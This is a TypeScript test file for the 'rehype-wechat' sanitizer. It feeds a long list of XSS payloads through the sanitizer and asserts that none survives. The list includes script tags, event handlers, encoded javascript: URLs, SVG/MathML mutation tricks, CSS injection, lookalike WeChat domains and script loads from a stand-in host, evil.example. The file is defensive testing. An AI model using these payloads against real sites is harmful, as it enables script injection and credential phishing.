import rehypeWechat, { articleHtml, parseHtml } from "rehype-wechat";
import type { Root } from "hast";
import { unified } from "unified";
import { VFile } from "vfile";
import { expect, test } from "vitest";

import { ruleIds, toDraft } from "./support/to-draft.ts";
import { lintArticle } from "./support/lint/lint-article.ts";

/** The known ways in: events, protocols, embedding, parser confusion, styles, drawings, encodings. */
const attacks = String.raw`<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/xss src=//evil.example></script>
<img src=x onerror=alert(1)>
<img src="x"/onerror="alert(1)">
<img/src='x'onerror=alert(1)//
<img src=javascript:alert(1)>
<img src="jav&#x09;ascript:alert(1)">
<img src=" &#14; javascript:alert(1)">
<img src=data:text/html,<script>alert(1)</script>>
<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>
<img srcset="x 1x, javascript:alert(1) 2x">
<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>
<a href=javascript:alert(1)>x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="&#106;&#97;vascript&colon;alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="//evil.example" onmouseover=alert(1) style="position:fixed;inset:0">x</a>
<a href="https://mp.weixin.qq.com.evil.example/s/a">x</a>
<a href="https://mp.weixin.qq.com@evil.example/s/a">x</a>
<a href="https://evil.example/?mp.weixin.qq.com/s/a">x</a>
<a data-miniprogram-appid="javascript:alert(1)" href="javascript:alert(1)">x</a>
<svg onload=alert(1)><path d="M0 0"/></svg>
<svg><script>alert(1)</script><rect width=1 height=1 /></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1) begin=click /><rect/></svg>
<svg><set attributeName=onmouseover to=alert(1) begin=click /><rect/></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/><rect/></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe>x</foreignObject></svg>
<svg><style>@import "//evil.example";rect{fill:url(javascript:alert(1))}</style><rect/></svg>
<svg><image href="javascript:alert(1)"/></svg>
<svg><rect fill="url(https://evil.example/x#y)" style="background:url(//evil.example)"/></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe data-src="https://mp.weixin.qq.com.evil.example/" data-vidtype=2></iframe>
<iframe data-src="javascript:alert(1)"></iframe>
<object data=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<video src=x onerror=alert(1)><source onerror=alert(1) src=javascript:alert(1)></video>
<audio src=javascript:alert(1) onloadstart=alert(1)></audio>
<details open ontoggle=alert(1)><summary onclick=alert(1)>s</summary>x</details>
<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button><input onfocus=alert(1) autofocus></form>
<body onload=alert(1)>x
<base href="javascript:alert(1)//"><meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href=javascript:alert(1)>
<style>@import'javascript:alert(1)';</style>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="behavior:url(x.htc);-moz-binding:url(x#y)">x</div>
<div style="color:red;}</style><script>alert(1)</script>">x</div>
<div style='font-family:"x&quot;onclick=alert(1)//"'>x</div>
<p style="color:re\64;background:u\72l(javascript:alert(1))">x</p>
<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>
<mp-common-profile onclick=alert(1) src="javascript:alert(1)" style="position:fixed" data-id=1></mp-common-profile>
<mpvoice src="data:text/html,x" onerror=alert(1)></mpvoice>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><img src=x onerror=alert(1)></template>
<xmp><img src=x onerror=alert(1)></xmp>
<textarea></textarea><img src=x onerror=alert(1)>
<title><img src=x onerror=alert(1)></title>
<plaintext><img src=x onerror=alert(1)>
<select><option><img src=x onerror=alert(1)></select>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<pre data-fence='{"mark":[1e9],"title":"<script>alert(1)</script>"}' data-language="js"><code>x</code></pre>
<code data-math=inline>\href{javascript:alert(1)}{x}</code>
<x onclick=alert(1) style="color:red" id=x class=y is=z>x</x>
<p id="__proto__" class=constructor title="&lt;script&gt;" dir=rtl lang=x>x</p>`.split("\n");

/** Whatever could run, load or fake an address in what WeChat's page would show. */
function survivors(html: string): string[] {
  const found: string[] = [];
  const walk = (node: Root | Root["children"][number]): void => {
    if (node.type === "element") {
      if (
        /^(?:script|style|iframe|object|embed|form|base|meta|link|use|foreignObject|math)$/i.test(
          node.tagName,
        )
      )
        found.push(node.tagName);
      for (const [name, value] of Object.entries(node.properties)) {
        if (/^on|^srcDoc$|^action$|^formAction$|^id$|^srcSet$/i.test(name)) found.push(name);
        if (/javascript:|vbscript:|data:text|expression\(|url\(|@import/i.test(String(value)))
          found.push(`${name}=${String(value)}`);
        if (
          name === "href" &&
          value !== "" &&
          !String(value).startsWith("https://mp.weixin.qq.com/")
        )
          found.push(`${name}=${String(value)}`);
      }
    }
    if ("children" in node) node.children.forEach(walk);
  };
  walk(parseHtml(html));
  return found;
}

test("no known attack survives, as Markdown and as HTML", async () => {
  for (const attack of attacks) {
    const fromMarkdown = String(await toDraft(attack));
    const tree = await unified().use(rehypeWechat).run(parseHtml(attack), new VFile());
    for (const html of [fromMarkdown, articleHtml(tree)]) {
      expect(survivors(html), attack).toEqual([]);
      expect(
        lintArticle(html).filter(({ rule }) => rule !== "image-host"),
        attack,
      ).toEqual([]);
    }
  }
});

test("attacks together do not help each other", async () => {
  expect(survivors(String(await toDraft(attacks.join("\n\n"))))).toEqual([]);
  expect(survivors(String(await toDraft(attacks.join(""))))).toEqual([]);
});

test("what is taken away is said, with its place", async () => {
  const file = await toDraft("前文\n\n<script>alert(1)</script>\n\n[x](javascript:alert(1))");
  expect(ruleIds(file)).toEqual(["element-removed", "link-unsafe"]);
  expect(file.messages[0]).toMatchObject({ source: "rehype-wechat", line: 3, column: 1 });
  expect(file.messages[1]).toMatchObject({ line: 5, column: 1 });
  expect(file.messages.every(({ note }) => typeof note === "string" && note !== "")).toBe(true);
});

test("messages speak Chinese when asked", async () => {
  const file = await toDraft("<script>alert(1)</script>", { language: "zh" });
  expect(file.messages[0]?.reason).toContain("已移除");
});
